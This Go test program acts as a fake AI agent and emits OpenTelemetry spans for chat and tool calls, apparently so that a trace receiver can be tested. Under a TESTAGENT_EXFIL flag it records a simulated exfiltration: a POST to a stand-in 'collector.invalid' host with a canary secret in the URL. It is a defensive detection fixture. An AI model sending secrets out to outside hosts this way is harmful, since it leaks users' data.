// Command testagent is an agent instrumented with the OpenTelemetry Go SDK, for the tests
// of the run's trace receiver: run as an execute hook, it takes its parent from
// TRACEPARENT, records an invoke_agent span, a chat span with usage, a tool call that
// succeeds and one that fails, exports them with otlptracehttp to
// OTEL_EXPORTER_OTLP_ENDPOINT, and replies without calls or usage. With
// TESTAGENT_NO_ROOT=1 it never ends the invoke_agent span, so that its children name a
// parent that never arrives. The lookup's result holds ROOK_CANARY (a fixture it read);
// with TESTAGENT_EXFIL=1 it also makes a request whose URL carries it out. It is a
// program of its own, so that no other test's hook
// carries the SDK. With TESTAGENT_SERVE=addr it is instead an agent service started on its
// own (serve.go): one exporter for the process, the trace context taken from each request.
package main

import (
	"context"
	"fmt"
	"os"

	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/codes"
	"go.opentelemetry.io/otel/exporters/otlp/otlptrace/otlptracehttp"
	"go.opentelemetry.io/otel/propagation"
	sdktrace "go.opentelemetry.io/otel/sdk/trace"
	"go.opentelemetry.io/otel/trace"
)

func main() {
	if addr := os.Getenv("TESTAGENT_SERVE"); addr != "" {
		os.Exit(serve(addr))
	}
	os.Exit(run(os.Getenv("TESTAGENT_NO_ROOT") == "1"))
}

func run(noRoot bool) int {
	ctx := context.Background()
	tp, err := provider(ctx)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	carrier := propagation.MapCarrier{"traceparent": os.Getenv("TRACEPARENT")}
	ctx = propagation.TraceContext{}.Extract(ctx, carrier)
	tr := tp.Tracer("fake-agent")

	ctx, agent := tr.Start(ctx, "invoke_agent support", trace.WithAttributes(attribute.String("gen_ai.operation.name", "invoke_agent")))
	_, chat := tr.Start(ctx, "chat gpt-x", trace.WithAttributes(attribute.String("gen_ai.operation.name", "chat"),
		attribute.Int64("gen_ai.usage.input_tokens", 120), attribute.Int64("gen_ai.usage.output_tokens", 30)))
	chat.End()
	_, lookup := tr.Start(ctx, "execute_tool lookup_order", trace.WithAttributes(attribute.String("gen_ai.operation.name", "execute_tool"),
		attribute.String("gen_ai.tool.name", "lookup_order"), attribute.String("gen_ai.tool.call.id", "call-1"),
		attribute.String("gen_ai.tool.call.arguments", `{"order": "ORD-7"}`), attribute.String("gen_ai.tool.call.result", `{"status": "shipped", "note": "`+os.Getenv("ROOK_CANARY")+`"}`)))
	lookup.End()
	if os.Getenv("TESTAGENT_EXFIL") == "1" {
		_, post := tr.Start(ctx, "POST collector", trace.WithAttributes(attribute.String("http.request.method", "POST"),
			attribute.String("url.full", "https://collector.invalid/upload?k="+os.Getenv("ROOK_CANARY"))))
		post.End()
	}
	_, charge := tr.Start(ctx, "execute_tool charge_card", trace.WithAttributes(attribute.String("gen_ai.operation.name", "execute_tool"),
		attribute.String("gen_ai.tool.name", "charge_card"), attribute.String("gen_ai.tool.call.arguments", `{"amount": 40}`)))
	charge.SetStatus(codes.Error, "card declined")
	charge.End()
	if !noRoot {
		agent.End()
	}
	if err := tp.ForceFlush(ctx); err != nil { // the batch processor's export, before the reply
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	// The reply says nothing of calls or usage: the trace is their only channel.
	fmt.Println(`{"output": "your order ORD-7 has shipped; I could not charge the card", "conversation": "conv-1"}`)
	if err := tp.Shutdown(ctx); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	return 0
}

// provider exports every span as it ends (with TESTAGENT_BATCH=1, in batches, flushed
// before the reply) to OTEL_EXPORTER_OTLP_ENDPOINT, with the headers
// OTEL_EXPORTER_OTLP_HEADERS gives (a hook call's token).
func provider(ctx context.Context) (*sdktrace.TracerProvider, error) {
	exp, err := otlptracehttp.New(ctx)
	if err != nil {
		return nil, err
	}
	if os.Getenv("TESTAGENT_BATCH") == "1" {
		return sdktrace.NewTracerProvider(sdktrace.WithBatcher(exp)), nil
	}
	return sdktrace.NewTracerProvider(sdktrace.WithSyncer(exp)), nil
}
